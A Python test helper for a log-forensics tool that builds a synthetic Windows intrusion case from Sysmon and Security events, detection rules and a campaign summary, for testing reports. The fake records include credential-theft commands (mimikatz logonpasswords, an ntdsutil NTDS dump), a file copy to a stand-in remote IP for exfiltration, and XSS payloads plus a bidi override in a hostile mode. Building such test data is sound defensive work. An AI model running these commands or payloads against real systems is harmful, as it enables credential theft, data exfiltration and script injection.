"""A small synthetic intrusion case for the report tests, made in the test (no fixtures on disk).

How it is made: evtx-JSON records (the shape ``evtx`` emits) written as JSON Lines per host,
ingested with ``dwell.cli.ingest_cmd.ingest_paths``; detections are built here from the stored
events (rule titles, levels and ATT&CK tags chosen by hand), and the campaign dict follows the
``dwell campaign --json`` shape. With ``hostile=True`` attacker-controlled text (a host name,
user names, command lines) carries HTML/script payloads and a U+202E bidi override.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa

from dwell.cli._console import Ui
from dwell.cli.ingest_cmd import ingest_paths
from dwell.schema import DETECTION_SCHEMA
from dwell.store import open_case

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RLO = "\u202e"
EVIL_HOST = f'EVIL{IMG}'  # normalised to upper case by ingest
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _record(host: str, channel: str, provider: str, event_id: int, record: int, when: str,
            data: dict[str, Any]) -> dict[str, Any]:
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": event_id,
                   "EventRecordID": record,
                   "TimeCreated": {"#attributes": {"SystemTime": when}},
                   "Channel": channel, "Computer": host},
        "EventData": data}}


def _events(hostile: bool) -> dict[str, list[dict[str, Any]]]:
    cmd_extra = f" & echo {SCRIPT} {IMG} {RLO}exe.txt" if hostile else ""
    admin = f"GOVAL\\Admin{RLO}nimda" if hostile else "GOVAL\\Administrator"
    evil = EVIL_HOST if hostile else "KIOSK01"
    proc = (SYSMON, "Microsoft-Windows-Sysmon", 1)
    logon = ("Security", "Microsoft-Windows-Security-Auditing", 4624)
    plan: dict[str, list[tuple[tuple[str, str, int], str, dict[str, Any]]]] = {
        "web01.goval.local": [
            (proc, "2021-05-11T02:14:00Z", {"Image": "C:\\Windows\\System32\\cmd.exe",
             "CommandLine": "cmd.exe /c whoami" + cmd_extra, "User": "GOVAL\\svc_spfarm",
             "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe"}),
            (proc, "2021-05-12T01:50:00Z", {"Image": "C:\\Windows\\System32\\cmd.exe",
             "CommandLine": "cmd.exe /c net localgroup administrators",
             "User": "GOVAL\\svc_spfarm", "ParentImage": "w3wp.exe"}),
            (proc, "2022-05-03T22:10:00Z", {"Image": "C:\\Windows\\Temp\\m64.exe",
             "CommandLine": "m64.exe sekurlsa::logonpasswords exit", "User": admin,
             "ParentImage": "cmd.exe"}),
        ],
        "fs01.goval.local": [
            (logon, "2022-05-04T21:15:00Z", {"TargetUserName": "Administrator",
             "TargetDomainName": "GOVAL", "LogonType": 10, "IpAddress": "10.10.1.20",
             "WorkstationName": "WEB01"}),
            (proc, "2022-05-04T21:30:00Z", {"Image": "C:\\Windows\\System32\\cmd.exe",
             "CommandLine": "cmd.exe /c dir /s \\\\FS01\\Docs$\\Kabineti" + cmd_extra,
             "User": admin, "ParentImage": "explorer.exe"}),
            (proc, "2022-05-12T21:40:00Z", {"Image": "C:\\Program Files\\WinRAR\\rar.exe",
             "CommandLine": "rar a -hpX reg.rar reg.csv", "User": admin,
             "ParentImage": "cmd.exe"}),
        ],
        "dc01.goval.local": [
            (logon, "2022-05-09T20:10:00Z", {"TargetUserName": "adm.khoxha",
             "TargetDomainName": "GOVAL", "LogonType": 10, "IpAddress": "10.10.1.20"}),
            (proc, "2022-05-09T20:25:00Z", {"Image": "C:\\Windows\\System32\\ntdsutil.exe",
             "CommandLine": 'ntdsutil "ac i ntds" ifm', "User": "GOVAL\\adm.khoxha",
             "ParentImage": "cmd.exe"}),
        ],
        "print01.goval.local": [
            (logon, "2022-07-14T19:40:00Z", {"TargetUserName": "Administrator",
             "TargetDomainName": "GOVAL", "LogonType": 10, "IpAddress": "10.10.1.20"}),
            (proc, "2022-07-15T06:02:00Z", {"Image": "C:\\Users\\Public\\Mellona.exe",
             "CommandLine": "C:\\Users\\Public\\Mellona.exe" + cmd_extra, "User": admin,
             "ParentImage": "cmd.exe"}),
            (("Security", "Microsoft-Windows-Eventlog", 1102), "2022-07-15T08:05:00Z",
             {"SubjectUserName": "Administrator"}),
        ],
        "dc02.goval.local": [
            (logon, "2022-03-01T08:00:00Z", {"TargetUserName": "helpdesk",
             "TargetDomainName": "GOVAL", "LogonType": 3, "IpAddress": "10.10.3.11"}),
        ],
        f"{evil}": [
            (proc, "2023-01-29T01:47:00Z", {"Image": "C:\\Windows\\System32\\cmd.exe",
             "CommandLine": "cmd.exe /c copy ID-230129-0042.pdf \\\\203.0.113.90\\x" + cmd_extra,
             "User": f"GOVAL\\svc_eapp{RLO}" if hostile else "GOVAL\\svc_eapp",
             "ParentImage": "explorer.exe"}),
        ],
    }
    out: dict[str, list[dict[str, Any]]] = {}
    for host, items in plan.items():
        records = []
        for i, ((channel, provider, event_id), when, data) in enumerate(items, start=1):
            records.append(_record(host, channel, provider, event_id, 100 + i,
                                   when.replace("Z", ".000000Z"), data))
        out[host] = records
    return out


#: (host_short-prefix, event time) -> (rule title, level, tags)
RULES: dict[str, tuple[str, str, list[str]]] = {
    "2021-05-11T02:14": ("Webshell Spawned Shell", "high",
                         ["attack.initial_access", "attack.t1190", "attack.persistence"]),
    "2021-05-12T01:50": ("Local Group Discovery", "medium", ["attack.discovery", "attack.t1069"]),
    "2022-05-03T22:10": ("Mimikatz Command Line", "critical",
                         ["attack.credential_access", "attack.t1003.001"]),
    "2022-05-04T21:15": ("Admin RDP Logon", "medium",
                         ["attack.lateral_movement", "attack.t1021.001"]),
    "2022-05-04T21:30": ("Share Listing", "low", ["attack.discovery", "attack.t1135"]),
    "2022-05-12T21:40": ("Rar With Password", "high", ["attack.collection", "attack.t1560.001"]),
    "2022-05-09T20:10": ("Admin RDP Logon", "medium",
                         ["attack.lateral_movement", "attack.t1021.001"]),
    "2022-05-09T20:25": ("NTDS Dump Via Ntdsutil", "high",
                         ["attack.credential_access", "attack.t1003.003"]),
    "2022-07-14T19:40": ("Admin RDP Logon", "medium",
                         ["attack.lateral_movement", "attack.t1021.001"]),
    "2022-07-15T06:02": (f"Encryptor Started {SCRIPT}", "critical",
                         ["attack.impact", "attack.t1486"]),
    "2022-07-15T08:05": ("Security Log Cleared", "high",
                         ["attack.defense_evasion", "attack.t1070.001"]),
    "2023-01-29T01:47": ("Copy To Remote Share", "high", ["attack.exfiltration", "attack.t1048"]),
}


def build_case(root: Path, hostile: bool = False) -> Path:
    logs = root / "logs"
    logs.mkdir(parents=True)
    for host, records in _events(hostile).items():
        name = "".join(c if c.isalnum() else "_" for c in host)[:20]
        with open(logs / f"{name}.jsonl", "w", encoding="utf-8") as fh:
            for rec in records:
                fh.write(json.dumps(rec) + "\n")
    case = root / "case"
    report = ingest_paths([str(logs)], str(case), Ui(quiet=True), jobs=1)
    assert report.records == sum(len(r) for r in _events(hostile).values()), report.line()
    return case


def build_detections(case: Path) -> pa.Table:
    rows = []
    with open_case(case) as reader:
        events = reader.db.sql(
            "SELECT timestamp, host, host_short, user, channel, event_id, record_id, "
            "source_file, source_sha256, source_pos FROM events ORDER BY timestamp"
        ).to_arrow_table().to_pylist()
    for ev in events:
        key = ev["timestamp"].strftime("%Y-%m-%dT%H:%M")
        if key not in RULES:
            continue
        title, level, tags = RULES[key]
        rows.append({**ev, "rule_id": f"rule-{len(rows)}", "title": title, "level": level,
                     "status": "test", "tags": tags, "rule_file": f"rules/{level}.yml",
                     "rule_sha256": "a" * 64, "matched": json.dumps({"x": SCRIPT}),
                     "correlation": None})
    return pa.Table.from_pylist(rows, schema=DETECTION_SCHEMA)


def build_campaign(hostile: bool = False) -> dict[str, Any]:
    last = EVIL_HOST.upper() if hostile else "KIOSK01"
    acct = f"GOVAL\\Admin{RLO}nimda" if hostile else "GOVAL\\Administrator"
    return {
        "evicted_at": "2022-11-15T00:00:00Z",
        "campaigns": [{
            "first_seen": "2021-05-11T02:14:00Z", "last_seen": "2023-01-29T01:47:00Z",
            "dwell_time_days": 627.98,
            "beachhead": {"host": "WEB01", "time": "2021-05-11T02:14:00Z", "evidence": []},
            "hosts": [
                {"host": "WEB01", "first_seen": "2021-05-11T02:14:00Z",
                 "last_seen": "2022-05-03T22:10:00Z", "reached_from": None, "via": None},
                {"host": "FS01", "first_seen": "2022-05-04T21:15:00Z",
                 "last_seen": "2022-05-12T21:40:00Z", "reached_from": "WEB01", "via": "rdp"},
                {"host": "DC01", "first_seen": "2022-05-09T20:10:00Z",
                 "last_seen": "2022-05-09T20:25:00Z", "reached_from": "WEB01", "via": "rdp"},
                {"host": "PRINT01", "first_seen": "2022-07-14T19:40:00Z",
                 "last_seen": "2022-07-15T08:05:00Z", "reached_from": "WEB01", "via": "rdp"},
                {"host": last, "first_seen": "2023-01-29T01:47:00Z",
                 "last_seen": "2023-01-29T01:47:00Z", "reached_from": "203.0.113.90",
                 "via": f"rdp {SCRIPT}" if hostile else "rdp"},
            ],
            "accounts": [{"account": acct, "first_seen": "2022-05-03T22:10:00Z",
                          "last_seen": "2022-07-15T06:02:00Z"},
                         {"account": "GOVAL\\adm.khoxha", "first_seen": "2022-05-09T20:10:00Z",
                          "last_seen": "2022-05-09T20:25:00Z"}],
            "edges": [
                {"src": "WEB01", "dst": "FS01", "time": "2022-05-04T21:15:00Z",
                 "account": acct, "method": "rdp"},
                {"src": "WEB01", "dst": "DC01", "time": "2022-05-09T20:10:00Z",
                 "account": "GOVAL\\adm.khoxha", "method": "rdp"},
                {"src": "WEB01", "dst": "PRINT01", "time": "2022-07-14T19:40:00Z",
                 "account": acct, "method": "rdp"},
                {"src": "203.0.113.90", "dst": last, "time": "2023-01-29T01:47:00Z",
                 "account": "svc_eapp", "method": IMG if hostile else "rdp"},
            ],
            "impact": [{"host": "PRINT01", "time": "2022-07-15T06:02:00Z",
                        "kind": "encryptor" + (SCRIPT if hostile else "")}],
            "exfiltration": [{"host": "FS01", "time": "2022-05-12T21:40:00Z",
                              "evidence": "rar a -hpX reg.rar reg.csv"}],
            "still_present": {"evicted_at": "2022-11-15T00:00:00Z", "verdict": True,
                              "after_eviction": [{"host": last, "time": "2023-01-29T01:47:00Z",
                                                  "evidence": "copy ID pdf"
                                                  + (f" {IMG}" if hostile else "")}]},
            "caveats": [{"kind": "log-cleared", "host": "PRINT01",
                         "time": "2022-07-15T08:05:00Z",
                         "message": "the Security log on PRINT01 was cleared; earlier activity "
                                    "may be missing"}],
        }],
    }


EVICTED = datetime(2022, 11, 15, tzinfo=UTC)
